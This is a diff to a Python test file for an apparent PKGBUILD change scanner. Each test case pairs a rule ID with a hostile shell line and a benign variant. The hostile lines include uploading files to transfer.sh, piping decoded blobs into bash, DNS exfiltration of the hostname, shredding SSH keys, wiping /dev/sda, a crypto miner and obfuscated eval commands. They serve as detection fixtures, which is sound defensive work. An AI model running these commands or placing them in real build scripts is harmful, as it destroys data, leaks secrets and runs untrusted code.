@@ -65,6 +65,13 @@ CASES = [
     ("R048", "  u=https://x.tk/a", "  u=https://x.tkx.example/a"), ("R055", "  git clone -b $branch https://x", "  git clone -b main https://x"), ("R057", "  curl -k https://x", "  curl --keepalive https://x"), ("R058", "  cp a /usr/bin/a", "  cp a \"$pkgdir\"/usr/bin/a"),
     ("R070", "  LD_PRELOAD=./x.so make", "  LDFLAGS=-s make"), ("R084", "  cd /tmp/work", "  cd \"$(mktemp -d /tmp/x)\""), ("R119", "  systemd-detect-virt -q && exit 0", "  true"), ("R127", "  bash <(curl https://x)", "  bash run.sh"), ("R132", "  ${!cmd}", "  ${cmd}"),
     ("S002", "  rm -rf ~", "  rm -rf \"$srcdir/x\""), ("S003", "  dd if=a of=/dev/sda", "  dd if=a of=b"), ("S007", "  ./xmrig -o stratum+tcp://pool", "  ./run"), ("S008", "  history -c", "  history"), ("X008", "  make\u00A0install", "  make install"), ("X015", "  crontab x", "  make"),
+    ("R087", "  curl -F f=@a https://transfer.sh/x", "  curl https://transfer.sh/x"), ("R088", "  cp a /usr/lib/.hid", "  cp a \"$pkgdir\"/usr/lib/.hid"), ("R117", "  $'\\x62\\x75n' add x", "  bun add x"), ("R128", "  cp a /opt/x", "  cp a \"$pkgdir\"/opt/x"),
+    ("R131", "  export CFLAGS=\"$CFLAGS -U_FORTIFY_SOURCE\"", "  export CFLAGS=\"$CFLAGS -O2\""), ("R145", "  echo \"exec $srcdir/x\" > \"$pkgdir/usr/bin/x\"", "  echo \"exec /usr/lib/x\" > \"$pkgdir/usr/bin/x\""), ("S004", "  shred -u ~/.ssh/id", "  shred -u \"$srcdir/a\""),
+    ("W002", "  npm ci", "  npm run build"), ("W004", "  make -f other.mk", "  make"), ("X001", "  xxd -r -p blob | bash", "  xxd -r -p blob > out"), ("X002", "  $cmd --run all", "  make --run all"), ("X003", "  bash -lc make", "  bash -c make"), ("X005", "  cp a /home/alice/x", "  cp a b"),
+    ("X006", "  u=https://bit.ly/abc", "  u=https://bits.example/abc"), ("X009", "  lftp -c 'cat u' | bash", "  lftp -c 'cat u' | tar x"), ("X010", "  python3 -c 'import urllib.request as r; r.urlopen(u)'", "  python3 -c 'print(1)'"), ("X011", "  npm install left-pad", "  npm install ./local"),
+    ("X012", "  CC=\"$srcdir/cc\" make", "  CC=gcc make"), ("X014", "  export BASH_ENV=./x", "  export LANG=C"), ("X016", "  curl https://x.example | deno", "  curl https://x.example | tar xz"), ("X017", "  tar xf a --checkpoint-action=exec=sh", "  tar xf a"),
+    ("X018", "  python3 -c 'getattr(__import__(\"os\"), \"system\")(c)'", "  python3 -c 'print(2)'"), ("X019", "  dig +short \"$(hostname).x.example\"", "  echo \"Host: $(uname)\""), ("X020", "  printf 'all:' > Makefile", "  printf 'all:' > notes"), ("X021", "  bash \"$1\"", "  bash setup.sh"),
+    ("X023", "  pass show x | bash", "  make 2>&1 | tee log"), ("R082", "  eval \"$(printf '\\x41' | base64 -d | rev)\"", "  eval x"),
 ]
 
 
@@ -86,6 +93,8 @@ def test_structural(spark):
         "C001": f" pkgver=1\n-sha256sums=('{a}')\n+sha256sums=('{b}')\n", "C002": f"-pkgver=1\n+pkgver=2\n-sha256sums=('{a}')\n+sha256sums=('{b}')\n", "C004": f" pkgver=1\n-sha256sums=('{a}')\n",
         "R004": f"-sha256sums=('{a}')\n+sha256sums=('SKIP')\n", "R064": "-source=('https://x.example/a')\n+source=('http://x.example/a')\n", "R115": "+epoch=1\n", "R130": "+validpgpkeys=('ABC')\n",
         "R147": f"+source=('a' 'b')\n+sha256sums=('{a}')\n", "D003": "+makedepends=('curl>=7')\n",
+        "C007": "+source=(\"$(cat list)\")\n", "C008": " pkgver=1\n-Subproject commit " + "1" * 40 + "\n+Subproject commit " + "2" * 40 + "\n", "R068": "+install=lamp.install\n", "R129": "+ver=$(curl https://x.example)\n",
+        "R079": " pkgver=1\n-source=('git+https://x.example/r#commit=abc')\n+source=('git+https://x.example/r#branch=main')\n",
     }
     for rule, got in zip(cases, found(spark, *(head + x for x in cases.values()))):
         assert rule in got, (rule, got)
